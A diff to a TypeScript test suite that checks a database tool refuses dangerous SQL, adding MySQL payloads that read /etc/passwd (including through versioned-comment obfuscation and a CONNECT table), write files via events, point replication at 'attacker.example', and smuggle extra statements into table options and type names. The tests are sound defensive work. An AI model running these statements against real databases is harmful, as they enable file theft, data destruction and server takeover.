@@ -63,6 +63,11 @@ const reaching: Readonly<Record<string, readonly string[]>> = {
     "CREATE FUNCTION f RETURNS STRING SONAME 'evil.so'",
     "INSTALL PLUGIN p SONAME 'evil.so'",
     "SET GLOBAL general_log_file = '/tmp/x'",
+    "SET GLOBAL `general_log_file` = '/tmp/x'",
+    "SELECT load_file /*!99999 x*/ /*!40000 ('/etc/passwd') */",
+    "CREATE EVENT e ON SCHEDULE AT now() DO SELECT 1 INTO OUTFILE '/tmp/x'",
+    "CREATE TABLE t (a INT) ENGINE = `CONNECT` FILE_NAME = '/etc/passwd'",
+    "CHANGE MASTER TO MASTER_HOST = 'attacker.example'",
   ],
   sqlserver: [
     "EXEC xp_cmdshell 'id'",
@@ -83,6 +88,16 @@ const smuggled: Readonly<Record<string, readonly string[]>> = {
   postgres: ["pg_read_file('/etc/passwd')", "lo_import('/etc/passwd')::text"],
   mysql: ["load_file('/etc/passwd')"],
   sqlserver: [],
+};
+
+/** Options of tables that name more than themselves. */
+const hiddenInOptions: Readonly<Record<string, readonly Readonly<Record<string, string>>[]>> = {
+  mysql: [
+    { ENGINE: 'CONNECT' },
+    { ENGINE: "InnoDB DATA DIRECTORY = '/tmp'" },
+    { ENGINE: 'InnoDB SELECT * FROM items' },
+    { 'CHARACTER SET': "utf8mb4 COMMENT = 'x'" },
+  ],
 };
 
 overDatabases('files and network', (bench) => {
@@ -159,6 +174,13 @@ overDatabases('files and network', (bench) => {
       );
     });
   });
+
+  test.each(hiddenInOptions[dialect] ?? [])(
+    'options of a table of an imported schema: %j',
+    async (options) => {
+      await expectRefused('/import/schema', schemaFile([{ name: 'o', columns, options }]));
+    },
+  );
 
   test.each(['INTEGER); DROP TABLE items; --', 'INTEGER /*', "INTEGER DEFAULT '"])(
     'a type that would end its statement makes no other: %s',
